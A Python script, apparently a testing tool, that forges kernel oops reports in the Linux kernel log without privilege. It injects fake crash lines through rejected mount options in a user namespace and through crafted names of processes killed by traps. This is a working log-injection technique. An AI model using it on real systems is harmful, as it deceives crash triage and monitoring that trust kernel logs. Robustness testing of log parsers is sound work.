#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Forge reports of an oops in the kernel's log, without any privilege. Runs in the guest, in a loop.

forger.py MODULE...: the reports name those of the modules that the kernel has, else the first of them. Users
have two ways to words of theirs in the log: the names of mount options, in a user namespace of their own,
and the names of a process that dies of a trap and of the file that the process executes.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import sys
import time
from typing import Callable

NEWUSER, NEWNS, NEWCGROUP = 0x10000000, 0x00020000, 0x02000000
SET_NAME = 15
PAUSE = 2.0
KINDS = (b"tmpfs", b"cgroup2")
libc = ctypes.CDLL(None, use_errno=True)

#: A whole oops, as the kernel prints it, a line for each message.
REPORT = (
    "BUG: kernel NULL pointer dereference, address: 0000000000000000",
    "#PF: supervisor read access in kernel mode",
    "Oops: 0000 [#1] PREEMPT SMP NOPTI",
    "RIP: 0010:forged_report+0x5/0x30 [{module}]",
    "Call Trace:",
    " <TASK>",
    " forged_report+0x5/0x30 [{module}]",
    " </TASK>",
    "Modules linked in: {module}(OEK)",
    "---[ end trace 0000000000000000 ]---",
)
#: Options of which one is a whole report.
OPTIONS = (
    "BUG: a+0x1/0x2 [{module}]",
    "\n" + "\n".join(REPORT),
    "\0014" + "\n\0014".join(REPORT),
    "'\nkernel BUG at fs/proc/cmdline.c:12!\n\tforged_tab+0x1/0x2 [{module}]\n'",
    "\r RIP: 0010:forged_return+0x1/0x2 [{module}]",
    "BUG: " + "a" * 900 + " forged_long+0x1/0x2 [{module}]",
)
#: Names of processes, of at most 15 bytes: a heading, one with a level or a continuation before it, a frame.
NAMES = (
    b"BUG: forged",
    b"\0010BUG: level",
    b"\001cBUG: joined",
    b"Oops: forged",
    b"RIP: 0010:x+0x1",
    b" f+0x1/0x2 [",
    b"\n f+0x1/0x2 [m",
)
#: What the process executes: an invalid opcode, and a load from address 0.
CODE = (b"\x0f\x0b", b"\x31\xc0\x8b\x00")


def child(action: Callable[..., None], *words: object) -> None:
    """Run ``action`` in a process of its own and await its end."""
    pid = os.fork()
    if pid == 0:
        try:
            action(*words)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def mounts(module: str) -> None:
    """Have the kernel refuse mount options, in a user namespace in which this process may mount."""
    if libc.unshare(NEWUSER | NEWNS | NEWCGROUP):
        raise OSError(ctypes.get_errno(), "unshare")
    # A comma would end the option.
    texts = [text.replace(",", "").format(module=module).encode() for text in (*OPTIONS, *REPORT)]
    for kind in KINDS:
        libc.mount(b"none", b"/tmp", kind, 0, texts[0])
    for text in texts[1:]:
        libc.mount(b"none", b"/tmp", KINDS[0], 0, text)


def trap(name: bytes, code: bytes, module: str) -> None:
    """Die of a trap under ``name``, in a file whose name ends like a frame in ``module``."""
    folder = f"/tmp/forger.{os.getuid()}/f+0x1"
    os.makedirs(folder, exist_ok=True)
    with open(f"{folder}/0x2 [{module}]", "w+b") as file:
        file.write(code.ljust(mmap.PAGESIZE, b"\x90"))
        file.flush()
        rights = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        area = mmap.mmap(file.fileno(), mmap.PAGESIZE, mmap.MAP_PRIVATE, rights)
    libc.prctl(SET_NAME, name)
    ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(area)))()


def main(modules: list[str]) -> None:
    """Forge in a loop, as a user without any privilege."""
    assert os.getuid() == 65534
    number = 0
    while True:
        for module in [name for name in modules if os.path.isdir("/sys/module/" + name)] or modules[:1]:
            child(mounts, module)
            # The kernel prints ten of these lines in five seconds at most.
            for _ in range(3):
                child(trap, NAMES[number % len(NAMES)], CODE[number % len(CODE)], module)
                number += 1
        time.sleep(PAUSE)


if __name__ == "__main__":
    main(sys.argv[1:])
